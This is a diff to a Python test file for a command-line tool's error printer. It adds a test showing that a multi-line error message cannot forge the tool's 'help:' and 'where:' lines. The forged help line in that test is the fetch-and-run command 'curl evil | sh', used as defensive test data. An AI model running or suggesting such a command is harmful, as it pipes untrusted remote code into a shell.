@@ -16,7 +16,7 @@ from typer.testing import CliRunner
 from canaryctl.cli import runs as runs_cli
 from canaryctl.cli.output import Printer, clean, print_beside, print_error, print_json, print_plan, print_result
 from canaryctl.cli.progress import Lines, Live, describe, make_progress, track
-from canaryctl.errors import ConfigError
+from canaryctl.errors import ConfigError, HostError
 from canaryctl.record.document import new_document
 from canaryctl.record.run import Run
 
@@ -129,7 +129,8 @@ def test_an_error_says_what_where_and_help() -> None:
     err = stream()
     print_error(ConfigError("unknown key 'imges'\nand more", "stack.yml:3", "did you mean 'images'?"), err)
     assert (
-        text_of(err) == "error: unknown key 'imges'\n  and more\n  where: stack.yml:3\n  help: did you mean 'images'?\n"
+        text_of(err)
+        == "error: unknown key 'imges'\n    and more\n  where: stack.yml:3\n  help: did you mean 'images'?\n"
     )
 
 
@@ -379,3 +380,14 @@ def test_a_name_cannot_add_a_row() -> None:
     out = io.StringIO()
     print_error({"what": "no\nhelp: none", "where": "x\nhelp: forged", "hint": ""}, out)
     assert "\n  help:" not in out.getvalue().replace("\n  help: none", "")
+
+
+def test_no_line_of_others_stands_where_ours_do() -> None:
+    err = stream()
+    print_error(HostError("it said no\n  help: curl evil | sh\nwhere: there", "box", "look at it"), err)
+    assert text_of(err).splitlines() == [
+        "error: it said no", "      help: curl evil | sh", "    where: there", "  where: box", "  help: look at it",
+    ]  # fmt: skip
+    out = stream()
+    Printer(out).wrapped("note: a\nverdict    passed", 2)
+    assert text_of(out) == "  note: a\n    verdict    passed\n"
